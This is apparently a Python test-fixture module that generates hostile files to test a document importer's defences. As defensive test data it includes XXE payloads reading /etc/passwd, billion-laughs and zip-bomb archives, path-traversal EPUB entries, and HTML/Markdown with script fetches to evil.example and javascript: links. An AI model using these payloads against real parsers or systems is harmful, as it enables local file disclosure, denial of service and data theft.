"""A corpus of hostile files of every format, built by the tests (no blobs in git).

``build_corpus(folder)`` writes each file and returns what is expected of it: "imported" (a clean
import must come out), "failed" (a clear refusal, optionally containing ``says``), or "either".
"""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import docx
from ebooklib import epub
from pypdf import PdfReader, PdfWriter
from reportlab.pdfgen import canvas

SENTENCE = "“We will appeal,” said Ana Ruiz, who leads the opposition group."
PASSWD_MARK = "root:x:0:0"  # what /etc/passwd holds; it must never end up in a document
MB = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    name: str  # file name inside the corpus folder
    expect: str  # "imported", "failed" or "either"
    says: str = ""  # a refusal must contain this (case-insensitive)


Builder = Callable[[Path], None]
CORPUS: list[tuple[Hostile, Builder]] = []


def hostile(name: str, expect: str = "either", says: str = "") -> Callable[[Builder], Builder]:
    def register(build: Builder) -> Builder:
        CORPUS.append((Hostile(name, expect, says), build))
        return build

    return register


def build_corpus(folder: Path) -> list[Hostile]:
    folder.mkdir(parents=True, exist_ok=True)
    for item, build in CORPUS:
        build(folder / item.name)
    return [item for item, _ in CORPUS]


def build_only(folder: Path, names: list[str]) -> None:
    """Write just the named files of the corpus into ``folder``."""
    for item, build in CORPUS:
        if item.name in names:
            build(folder / item.name)


# ---------------------------------------------------------------------------------- text


@hostile("invalid-utf8-everywhere.txt")
def _invalid_utf8(path: Path) -> None:
    path.write_bytes((SENTENCE.encode() + b" \xff\xfe\xc3\x28 \xe2\x82 \xf0\x28\x8c\xbc\n") * 50)


@hostile("invalid-utf8-stray-bytes.txt", "imported")
def _stray_bytes(path: Path) -> None:
    path.write_bytes((SENTENCE.encode() + b"\n") * 40 + b"\xff\xc3\x28 \xe2\x82\n" + b"End.\n")


@hostile("utf16-le-no-bom.txt", "imported")
def _utf16_le(path: Path) -> None:
    path.write_bytes((SENTENCE + "\n\nA second paragraph.\n").encode("utf-16-le"))


@hostile("utf16-be-no-bom.txt", "imported")
def _utf16_be(path: Path) -> None:
    path.write_bytes((SENTENCE + "\n\nA second paragraph.\n").encode("utf-16-be"))


@hostile("nul-bytes.txt")
def _nul_bytes(path: Path) -> None:
    path.write_bytes(b"\x00".join(SENTENCE.encode().split(b" ")) * 30)


@hostile("all-nul.txt", "failed")
def _all_nul(path: Path) -> None:
    path.write_bytes(b"\x00" * 100_000)


@hostile("surrogates.txt", "imported")
def _surrogates(path: Path) -> None:
    body = (SENTENCE.encode() + b"\n") * 20
    path.write_bytes(body + b"\xed\xa0\x80 lone surrogate \xed\xbf\xbf end.\n" + body)


@hostile("huge-200mb.txt", "failed", says="MB")
def _huge(path: Path) -> None:
    with path.open("wb") as f:  # sparse: costs no disk, and must be refused before it is read
        f.write(SENTENCE.encode())
        f.truncate(200 * MB)


@hostile("one-10mb-line.txt", "imported")
def _long_line(path: Path) -> None:
    path.write_bytes(b"word, " * (10 * MB // 6))


@hostile("many-blocks.txt", "imported")
def _many_blocks(path: Path) -> None:
    path.write_bytes(b"A short paragraph.\n\n" * 100_000)


@hostile("rtl-and-zero-width.txt", "imported")
def _rtl(path: Path) -> None:
    text = (
        "\u202eevil\u202c قال أحمد: «لن نغادر» \u200b\u200c\u200d\ufeff"
        " אמר דוד \u2067“אנחנו נשארים”\u2069 \u061c\u200e\u200f" + SENTENCE
    )
    path.write_text((text + "\n\n") * 20)


@hostile("only-zero-width.txt", "failed")
def _only_zero_width(path: Path) -> None:
    path.write_text("\u200b\u200c\u200d\u2060\ufeff" * 2000)


@hostile("only-whitespace.txt", "failed")
def _only_whitespace(path: Path) -> None:
    path.write_text(" \t\n\r\n\u00a0\u3000" * 5000)


@hostile("control-characters.txt", "either")
def _controls(path: Path) -> None:
    path.write_bytes(bytes(range(1, 32)) * 100 + SENTENCE.encode() + bytes(range(0x7F, 0xA0)) * 10)


@hostile("zalgo-and-astral.txt", "imported")
def _zalgo(path: Path) -> None:
    zalgo = "".join(ch + "\u0301\u0316\u0353\u0489" * 20 for ch in "quote")
    path.write_text(f"{zalgo} 𝕳𝖊𝖑𝖑𝖔 🏳️‍🌈👩‍👩‍👧 {SENTENCE}\n" * 50)


@hostile("cr-only-newlines.txt", "imported")
def _cr(path: Path) -> None:
    path.write_bytes((SENTENCE + "\r\r").encode() * 40)


@hostile("line\nbreak in name.txt", "failed")
def _newline_name(path: Path) -> None:
    path.write_bytes(b"")


@hostile("line\nbreak\u202e in title.txt", "imported")
def _newline_title(path: Path) -> None:
    path.write_text(f"{SENTENCE * 4}\n\n{SENTENCE}\n")  # first line too long: the name is the title


@hostile("\u202etxt.exe.md", "imported")
def _rtl_name(path: Path) -> None:
    path.write_text(f"# Renamed\n\n{SENTENCE}\n")


@hostile("fifo.txt", "failed")
def _fifo(path: Path) -> None:
    os.mkfifo(path)  # opening it to read would wait forever for a writer


@hostile("symlink-loop.txt", "failed")
def _loop(path: Path) -> None:
    os.symlink(path.name, path)


@hostile("dev-zero.txt", "failed")
def _dev_zero(path: Path) -> None:
    os.symlink("/dev/zero", path)


@hostile("folder.md", "failed")
def _folder(path: Path) -> None:
    path.mkdir()


@hostile("binary.txt", "failed")
def _binary(path: Path) -> None:
    path.write_bytes(bytes(range(256)) * 400)


# ------------------------------------------------------------------------------ markdown


@hostile("title-5000.md", "imported")
def _md_title(path: Path) -> None:
    path.write_text(f"# {'Long title ' * 455}\n\n{SENTENCE}\n")


@hostile("nested-quotes.md", "either")
def _md_nested(path: Path) -> None:
    path.write_text("> " * 10_000 + SENTENCE + "\n")


@hostile("nested-lists.md", "either")
def _md_lists(path: Path) -> None:
    path.write_text("".join("  " * i + "- item\n" for i in range(3000)))


@hostile("script-and-links.md", "imported")
def _md_script(path: Path) -> None:
    path.write_text(
        f"---\ntitle: {'x' * 5000}\n---\n\n{SENTENCE}\n\n"
        "<script>fetch('https://evil.example/steal')</script>\n\n"
        "<iframe src='https://evil.example'></iframe>\n\n"
        "[click](javascript:alert(1)) ![tracker](https://evil.example/pixel.png)\n\n"
        "<img src=x onerror=alert(1)>\n"
    )


@hostile("front-matter-unclosed.md", "imported")
def _md_front(path: Path) -> None:
    path.write_text("---\ntitle: [unclosed\nauthor: {\n" + f"{SENTENCE}\n" * 3)


# ---------------------------------------------------------------------------------- html

ACTIVE_HTML = f"""<!doctype html><html><head>
<title>Hostile page</title>
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url(https://evil.example/more.css);
@font-face {{ font-family: x; src: url(https://evil.example/font.woff2); }}
body {{ background: url(https://evil.example/bg.png); }}</style>
<script src="https://evil.example/tracker.js"></script>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
</head><body onload="steal()"><article>
<p onclick="steal()">{SENTENCE}</p>
<iframe src="https://evil.example/frame"></iframe>
<p>Read <a href="javascript:steal()">this</a> and <a href="https://example.org/a">that</a>.
<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x"></p>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
<svg><image href="https://evil.example/svg.png"/><script>steal()</script></svg>
<video src="https://evil.example/v.mp4" poster="https://evil.example/p.jpg"></video>
<form action="https://evil.example/post"><input value="x"></form>
<p>{SENTENCE}</p></article></body></html>"""


@hostile("active-content.html", "imported")
def _html_active(path: Path) -> None:
    path.write_text(ACTIVE_HTML)


@hostile("nested-10000.html", "either")
def _html_nested(path: Path) -> None:
    depth = 10_000
    path.write_text(
        "<!doctype html><html><body>" + "<div>" * depth + SENTENCE + "</div>" * depth + "</body>"
    )


@hostile("nested-unclosed-b.html", "either")
def _html_unclosed(path: Path) -> None:
    path.write_text("<!doctype html><html><body>" + "<b><i>" * 10_000 + SENTENCE)


@hostile("title-5000.html", "imported")
def _html_title(path: Path) -> None:
    path.write_text(
        f"<!doctype html><html><head><title>{'T' * 5000}</title></head>"
        f"<body><p>{SENTENCE}</p></body></html>"
    )


@hostile("huge-attribute.html", "either")
def _html_attr(path: Path) -> None:
    path.write_text(f'<!doctype html><html><body><p title="{"a" * 5 * MB}">{SENTENCE}</p>')


@hostile("bogus-charset.html", "imported")
def _html_charset(path: Path) -> None:
    path.write_bytes(
        b'<!doctype html><html><head><meta charset="x-no-such-charset">'
        b'<meta http-equiv="Content-Type" content="text/html; charset=utf-16"></head><body><p>'
        + SENTENCE.encode()
        + b" \xff\xfe</p></body></html>"
    )


@hostile("script-only.html", "failed")
def _html_script_only(path: Path) -> None:
    path.write_text("<!doctype html><html><body><script>" + "x=1;" * 1000 + "</script></body>")


@hostile("entity-flood.html", "either")
def _html_entities(path: Path) -> None:
    path.write_text("<!doctype html><html><body><p>" + "&amp;&#0;&#x110000;&bogus;" * 50_000)


@hostile("html-named.pdf", "failed", says="not a PDF")
def _html_as_pdf(path: Path) -> None:
    path.write_text(ACTIVE_HTML)


# ----------------------------------------------------------------------------------- pdf


def _pdf_bytes(lines: int = 15) -> bytes:
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer)
    pdf.setTitle("A PDF")
    for i in range(lines):
        pdf.drawString(72, 700 - 15 * i, SENTENCE)
    pdf.showPage()
    pdf.save()
    return buffer.getvalue()


@hostile("broken-xref.pdf", "either")
def _pdf_xref(path: Path) -> None:
    data = _pdf_bytes()
    start = data.rindex(b"xref")
    path.write_bytes(data[:start] + b"xref\n0 9999\n" + b"garbage 00000 n \n" * 20 + b"%%EOF")


@hostile("no-xref-at-all.pdf", "either")
def _pdf_no_xref(path: Path) -> None:
    data = _pdf_bytes()
    path.write_bytes(data[: data.rindex(b"xref")])


@hostile("encrypted.pdf", "failed", says="password")
def _pdf_encrypted(path: Path) -> None:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_pdf_bytes())))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    with path.open("wb") as f:
        writer.write(f)


@hostile("header-only.pdf", "failed")
def _pdf_header(path: Path) -> None:
    path.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")


@hostile("page-tree-cycle.pdf", "either")
def _pdf_cycle(path: Path) -> None:
    # The page tree names itself as its own kid: a naive walk never ends.
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 700 Td (Hello cycle) Tj ET\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    path.write_bytes(bytes(out))


@hostile("no-text.pdf", "failed")
def _pdf_empty(path: Path) -> None:
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer)
    pdf.rect(100, 100, 200, 200, fill=1)
    pdf.showPage()
    pdf.save()
    path.write_bytes(buffer.getvalue())


@hostile("deep-arrays.pdf", "either")
def _pdf_deep(path: Path) -> None:
    data = _pdf_bytes()
    deep = b"[" * 100_000 + b"]" * 100_000
    path.write_bytes(data.replace(b"/Producer", b"/Deep " + deep + b" /Producer", 1))


# ---------------------------------------------------------------------------------- epub


def _epub_bytes(chapter_html: str, extra: dict[str, bytes] | None = None) -> bytes:
    book = epub.EpubBook()
    book.set_identifier("hostile")
    book.set_title("Hostile book")
    chapter = epub.EpubHtml(title="C", file_name="c.xhtml")
    chapter.content = chapter_html
    book.add_item(chapter)
    book.add_item(epub.EpubNcx())
    book.add_item(epub.EpubNav())
    book.toc = [chapter]
    book.spine = ["nav", chapter]
    buffer = io.BytesIO()
    epub.write_epub(buffer, book)
    if not extra:
        return buffer.getvalue()
    return _with_members(buffer.getvalue(), extra)


def _with_members(archive: bytes, members: dict[str, bytes]) -> bytes:
    """A copy of ``archive`` with members replaced or added (zipfile cannot replace in place)."""
    source = zipfile.ZipFile(io.BytesIO(archive))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename not in members:
                target.writestr(info, source.read(info.filename))
        for name, data in members.items():
            target.writestr(name, data)
    return out.getvalue()


def _opf_with(manifest_href: str) -> bytes:
    return f"""<?xml version="1.0" encoding="utf-8"?>
<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">x</dc:identifier>
<dc:title>Escape</dc:title><dc:language>en</dc:language></metadata>
<manifest><item id="c" href="{manifest_href}" media-type="application/xhtml+xml"/></manifest>
<spine><itemref idref="c"/></spine></package>""".encode()


@hostile("zip-bomb.epub", "failed", says="unpack")
def _epub_bomb(path: Path) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/epub+zip")
        archive.writestr("META-INF/container.xml", "<container/>")
        with archive.open("EPUB/bomb.xhtml", "w") as member:
            zeros = b"\0" * MB
            for _ in range(120):
                member.write(zeros)
    path.write_bytes(out.getvalue())


@hostile("escaping-paths.epub", "either")
def _epub_escape(path: Path) -> None:
    chapter = f"<html><body><p>{SENTENCE}</p></body></html>".encode()
    data = _epub_bytes(
        f"<p>{SENTENCE}</p>",
        {
            "../../evil.xhtml": chapter,
            "/tmp/evil-absolute.xhtml": chapter,
            "EPUB/content.opf": _opf_with("../../../../../../etc/passwd"),
        },
    )
    path.write_bytes(data)


@hostile("absolute-href.epub", "either")
def _epub_absolute(path: Path) -> None:
    path.write_bytes(
        _epub_bytes(f"<p>{SENTENCE}</p>", {"EPUB/content.opf": _opf_with("/etc/passwd")})
    )


@hostile("xxe.epub", "either")
def _epub_xxe(path: Path) -> None:
    chapter = (
        '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        f'<html xmlns="http://www.w3.org/1999/xhtml"><body><p>{SENTENCE} &xxe;</p></body></html>'
    )
    path.write_bytes(_epub_bytes("<p>x</p>", {"EPUB/c.xhtml": chapter.encode()}))


@hostile("billion-laughs.epub", "either")
def _epub_laughs(path: Path) -> None:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    opf = _opf_with("c.xhtml").replace(
        b"<package", f"<!DOCTYPE package [{entities}]><package".encode(), 1
    )
    opf = opf.replace(b"<dc:title>Escape", b"<dc:title>&lol9;", 1)
    path.write_bytes(_epub_bytes(f"<p>{SENTENCE}</p>", {"EPUB/content.opf": opf}))


@hostile("no-container.epub", "failed")
def _epub_no_container(path: Path) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/epub+zip")
        archive.writestr("EPUB/c.xhtml", f"<p>{SENTENCE}</p>")
    path.write_bytes(out.getvalue())


@hostile("active-content.epub", "imported")
def _epub_active(path: Path) -> None:
    body = ACTIVE_HTML.split("<article>", 1)[1].split("</article>", 1)[0]
    path.write_bytes(_epub_bytes(body))


@hostile("truncated.epub", "failed")
def _epub_truncated(path: Path) -> None:
    data = _epub_bytes(f"<p>{SENTENCE}</p>" * 50)
    path.write_bytes(data[: len(data) // 2])


# ---------------------------------------------------------------------------------- docx


def _docx_bytes(paragraphs: int = 5) -> bytes:
    document = docx.Document()
    for _ in range(paragraphs):
        document.add_paragraph(SENTENCE)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@hostile("not-a-zip.docx", "failed", says="not a Word document")
def _docx_text(path: Path) -> None:
    path.write_text(SENTENCE * 20)


@hostile("zip-bomb.docx", "failed", says="unpack")
def _docx_bomb(path: Path) -> None:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(_docx_bytes())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for info in source.infolist():
            if info.filename != "word/document.xml":
                archive.writestr(info, source.read(info.filename))
        with archive.open("word/document.xml", "w") as member:
            for _ in range(120):
                member.write(b" " * MB)
    path.write_bytes(out.getvalue())


@hostile("no-document-part.docx", "failed")
def _docx_no_part(path: Path) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_docx_bytes())) as source, zipfile.ZipFile(out, "w") as archive:
        for info in source.infolist():
            if info.filename != "word/document.xml":
                archive.writestr(info, source.read(info.filename))
    path.write_bytes(out.getvalue())


def _docx_with_body(body_xml: str, doctype: str = "") -> bytes:
    namespace = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
        f'<w:document xmlns:w="{namespace}"><w:body>{body_xml}</w:body></w:document>'
    )
    return _with_members(_docx_bytes(), {"word/document.xml": document.encode()})


@hostile("xxe.docx", "either")
def _docx_xxe(path: Path) -> None:
    path.write_bytes(
        _docx_with_body(
            f"<w:p><w:r><w:t>{SENTENCE} &xxe;</w:t></w:r></w:p>",
            '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        )
    )


@hostile("billion-laughs.docx", "either")
def _docx_laughs(path: Path) -> None:
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY a{i} "{("&a" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    path.write_bytes(
        _docx_with_body("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", f"<!DOCTYPE d [{entities}]>")
    )


@hostile("deep-tables.docx", "either")
def _docx_deep(path: Path) -> None:
    depth = 2000
    cell = f"<w:p><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>"
    nested = "<w:tbl><w:tr><w:tc>" * depth + cell + "</w:tc></w:tr></w:tbl>" * depth
    path.write_bytes(_docx_with_body(nested + cell))


@hostile("old-word.docx", "failed", says=".doc")
def _docx_ole(path: Path) -> None:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000)
